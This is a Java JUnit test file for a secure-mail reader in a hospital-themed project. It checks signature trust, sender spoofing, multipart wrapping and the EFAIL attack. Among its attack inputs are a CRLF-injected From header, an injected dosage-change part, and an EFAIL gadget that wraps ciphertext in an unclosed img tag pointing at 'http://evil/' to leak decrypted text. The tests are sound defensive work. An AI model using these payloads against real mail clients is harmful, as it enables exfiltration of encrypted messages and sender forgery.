package org.mizuhiki.mail;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Clock;
import java.util.List;
import java.util.Set;
import java.util.concurrent.atomic.AtomicReference;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.mizuhiki.house.Bytes;
import org.mizuhiki.house.Refusal;
import org.mizuhiki.seal.Author;
import org.mizuhiki.seal.MailSeals;
import org.mizuhiki.seal.Seals;
import org.mizuhiki.trust.ForeignRoot;
import org.mizuhiki.trust.ForeignRootList;
import org.mizuhiki.trust.Freshness;
import org.mizuhiki.trust.Member;
import org.mizuhiki.trust.StrangerCheck;
import org.mizuhiki.trust.Validator;

/// What a reader is told of mails that honest and hostile people sent.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@Tag("V5")
class MailReadingTest {
    private static final Clock CLOCK = Clock.systemUTC();
    private static final SecureRandom DIE = new SecureRandom();
    private static final String WORDS = "診断のご相談です";
    private static final Set<ForeignRoot.Purpose> BOTH =
            Set.of(ForeignRoot.Purpose.MAIL_SIGNING, ForeignRoot.Purpose.MAIL_ENCRYPTION);

    private final AtomicReference<ForeignRootList> roots = new AtomicReference<>();

    @TempDir
    static Path folder;

    private Hospital hospital;
    private StrangerCheck strangers;
    private MailReading reading;
    private MailSeals.Key doctor;

    @BeforeAll
    void aHospital() throws Exception {
        hospital = new Hospital(folder);
        doctor = new MailSeals.Key(hospital.certificate("doctor"), hospital.key("doctor"));
        strangers = StrangerCheck.offline(roots::get, Freshness.usual(), folder.resolve("answers"), CLOCK);
        var signers = new Signers(strangers, roots::get, new Nobody(), "mail.demo", CLOCK);
        reading = new MailReading(new Seals(DIE).mail(), signers);
    }

    @AfterAll
    void ends() {
        strangers.close();
    }

    @BeforeEach
    void rootsAreTrusted() {
        roots.set(hospital.roots(CLOCK, BOTH));
    }

    /// No certificate is of this region here.
    private static final class Nobody implements Validator {
        @Override
        public Member check(List<java.security.cert.X509Certificate> chain, Purpose purpose, java.time.Instant at) {
            throw Refusal.of("certificate-untrusted", "この地域のものではありません", "Not of this region");
        }

        @Override
        public Member check(org.mizuhiki.seal.Signature signature) {
            throw Refusal.of("certificate-untrusted", "この地域のものではありません", "Not of this region");
        }
    }

    private ReadMail read(String from, String entity) {
        return reading.read(Hospital.mail(from, entity), List.of(doctor));
    }

    @Test
    void aSignatureIsBelievedOnlyWithARootAndAnAnswerAboutRevocation() throws Exception {
        var mail = hospital.closed(hospital.signed("taro", Hospital.text(WORDS)), "doctor");
        var read = read(Hospital.TARO, mail);
        // the certificate names no place to ask, and silence is a no
        assertEquals("stranger-standing-unknown", read.signature().code());
        assertTrue(read.text().contains(WORDS));
        assertEquals("AES-256-CBC", read.closed().orElseThrow());
        assertTrue(read.signature().japanese().codePoints().anyMatch(c -> c > 0x3000));
        roots.set(new ForeignRootList(1, java.util.Optional.empty(), List.of()));
        assertEquals("stranger-no-root", read(Hospital.TARO, mail).signature().code());
        roots.set(hospital.roots(CLOCK, Set.of(ForeignRoot.Purpose.TLS_CLIENT)));
        assertEquals(
                "stranger-root-not-for-this",
                read(Hospital.TARO, mail).signature().code());
    }

    @Test
    void whoHasTheWrongRootOrTheWrongNameIsNotBelieved() throws Exception {
        var impostor = hospital.signed("impostor", Hospital.text(WORDS));
        assertEquals(
                "stranger-no-root", read(Hospital.TARO, impostor).signature().code());
        var hanako = hospital.signed("hanako", Hospital.text(WORDS));
        assertFalse(read(Hospital.TARO, hanako).signature() instanceof Judged.Believed);
        assertEquals(
                "sender-unclear",
                read("taro@hospital.example\r\nFrom: boss@hospital.example", hanako)
                        .signature()
                        .code());
    }

    @Test
    void whatTheSignatureDoesNotCoverIsNamed() throws Exception {
        var plain = read(Hospital.TARO, hospital.signed("taro", Hospital.text(WORDS)));
        assertEquals(List.of("From", "To", "Subject"), plain.outside());
        assertTrue(plain.explained().contains("Not covered by the signature"), plain.explained());
        var inside = "From: " + Hospital.TARO + "\r\nTo: p-1@mail.demo\r\nSubject: the signed one\r\n";
        var covered = read(Hospital.TARO, hospital.signed("taro", inside + Hospital.text(WORDS)));
        assertEquals(List.of(), covered.outside());
        assertEquals("the signed one", covered.subject());
    }

    @Test
    void aSenderOutsideOfTheSignatureWhoIsNotTheOneInsideIsNotBelieved() throws Exception {
        var signed = hospital.signed("taro", "From: boss@hospital.example\r\n" + Hospital.text(WORDS));
        assertEquals("sender-unclear", read(Hospital.TARO, signed).signature().code());
    }

    @Test
    void underACheckMarkStandsTheAddressAndNoDisplayName() {
        var notes = new java.util.ArrayList<ReadMail.Note>();
        var outer =
                Headers.read("From: Minister of Health <taro@hospital.example>".getBytes(StandardCharsets.US_ASCII));
        var believed = new Judged.Believed("CN=taro", "Hospital", Bytes.utf8("x"));
        assertEquals(Hospital.TARO, MailReading.shownFrom(outer, believed, notes));
        assertTrue(notes.getFirst().english().contains("Minister of Health"), "as the sender's own word");
        assertEquals(
                "Minister of Health <taro@hospital.example>",
                MailReading.shownFrom(outer, new Judged.Unsigned(), notes));
    }

    @Test
    void aChangedMailIsToldToBeBroken() throws Exception {
        var signed = hospital.signed("taro", Hospital.text(WORDS));
        var read = read(Hospital.TARO, signed.replace(WORDS, "別の内容です"));
        assertEquals("signature-broken", read.signature().code());
        assertTrue(read.explained().contains("壊れています"), read.explained());
    }

    @Test
    void bentLineEndsHideNoWordOfWhatWasSigned() throws Exception {
        var text = Hospital.text(WORDS);
        var signed = hospital.signed("taro", text);
        var head = text.indexOf("\r\n\r\n");
        var bent = text.substring(0, head) + "\r\r\n" + text.substring(head + 4);
        assertTrue(signed.contains(text), "signed as it is");
        var read = read(Hospital.TARO, signed.replace(text, bent));
        assertTrue(
                read.signature().code().equals("signature-broken")
                        || read.text().contains(WORDS),
                read.explained());
    }

    @Test
    void whatLiesBesideASignedPartIsNotSigned() throws Exception {
        var signed = hospital.signed("taro", Hospital.text(WORDS));
        var wrapped = "Content-Type: multipart/mixed; boundary=w\r\n\r\n--w\r\n" + Hospital.text("投与を10倍に") + "--w\r\n"
                + signed + "\r\n--w--\r\n";
        assertEquals("unsigned", read(Hospital.TARO, wrapped).signature().code());
        // a third part inside of multipart/signed
        var third = signed.replaceFirst("(?s)(------[0-9A-F]+)--\r\n", "$1\r\n" + Hospital.text("追加") + "$1--\r\n");
        assertEquals("signature-broken", read(Hospital.TARO, third).signature().code());
        assertEquals(
                "unsigned",
                read(Hospital.TARO, Hospital.text(WORDS)).signature().code());
    }

    /// EFAIL, direct exfiltration: the text must not come to stand in what the attacker wrote around it.
    @Test
    void anEncryptedPartOfAMailIsNeverOpened() throws Exception {
        var closed = hospital.closed(Hospital.text(WORDS), "doctor");
        var gadget =
                "Content-Type: multipart/mixed; boundary=e\r\n\r\n--e\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n"
                        + "--e\r\n" + closed + "\r\n--e\r\nContent-Type: text/html\r\n\r\n\">\r\n--e--\r\n";
        var read = read(Hospital.TARO, gadget);
        assertFalse(read.text().contains(WORDS), read.text());
        assertFalse(read.text().contains("evil"), read.text());
        assertTrue(read.files().stream().noneMatch(f -> f.content().asUtf8().contains(WORDS)));
        assertTrue(read.notes().stream().anyMatch(n -> n.english().contains("part of the mail")), read.explained());
    }

    @Test
    void anEnvelopeThatIsNotSignedIsToldToBeChangeable() throws Exception {
        var read = read(Hospital.TARO, hospital.closed(Hospital.text(WORDS), "doctor"));
        assertEquals("unsigned", read.signature().code());
        assertTrue(read.explained().contains("AES-256-CBC"), read.explained());
        assertEquals(
                "seal-not-for-you",
                assertThrows(Refusal.class, () -> read(Hospital.TARO, hospital.closed(Hospital.text(WORDS), "hanako")))
                        .code());
    }

    @Test
    void aSignatureOutsideOfTheEnvelopeVouchesForNothingInside() throws Exception {
        var outside = hospital.signed("taro", hospital.closed(Hospital.text(WORDS), "doctor"));
        var read = read(Hospital.TARO, outside);
        assertTrue(read.text().contains(WORDS));
        assertEquals("unsigned", read.signature().code());
    }

    @Test
    void whatIsWrittenHereIsReadThereWithItsSubjectUnderTheSignature() throws Exception {
        var writing = new MailWriting(new Seals(DIE).mail(), DIE);
        var author = new Author(hospital.key("doctor"), List.of(hospital.certificate("doctor")));
        for (var form : MailSeals.Form.values()) {
            var mail = new NewMail(
                    "環 (結び病院)",
                    "p-1@mail.demo",
                    Hospital.TARO,
                    "検査の結果",
                    CLOCK.instant(),
                    NewMail.entity(
                            WORDS, List.of(new ReadMail.File("結果.pdf", "application/pdf", Bytes.utf8("%PDF"))), DIE));
            var sent = writing.write(mail, writing.newId(), author, hospital.certificate("taro"), form);
            assertFalse(sent.asUtf8().contains(NewMail.encoded("検査の結果")), "the subject travels encrypted");
            var taro = new MailSeals.Key(hospital.certificate("taro"), hospital.key("taro"));
            var read = reading.read(sent, List.of(taro));
            assertEquals("検査の結果", read.subject());
            assertTrue(read.text().contains(WORDS));
            assertEquals("結果.pdf", read.files().getFirst().name());
            assertEquals(MailSeals.Form.AUTHENTICATED, read.answering());
        }
    }
}
